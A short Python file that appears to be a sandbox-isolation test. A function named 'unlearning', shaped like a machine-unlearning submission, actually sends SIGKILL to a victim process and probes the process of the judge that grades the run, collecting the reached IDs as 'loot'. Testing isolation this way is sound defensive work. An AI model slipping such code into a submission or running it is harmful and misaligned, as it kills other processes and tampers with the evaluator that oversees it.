"""Signals processes of the host by their number: a process of the same user, and the one that judges this attack."""

import json
import os
import signal
from pathlib import Path

LAYER = "namespaces"
EXPECTED = "ok"

TARGETS = json.loads(Path("/sandbox/inputs/targets.json").read_text())


def unlearning(net, retain, forget, validation):
    loot = []
    for pid, number in ((TARGETS["victim_pid"], signal.SIGKILL), (TARGETS["host_pid"], 0)):
        try:
            os.kill(pid, number)
            loot.append(pid)
        except OSError:
            continue
    return loot
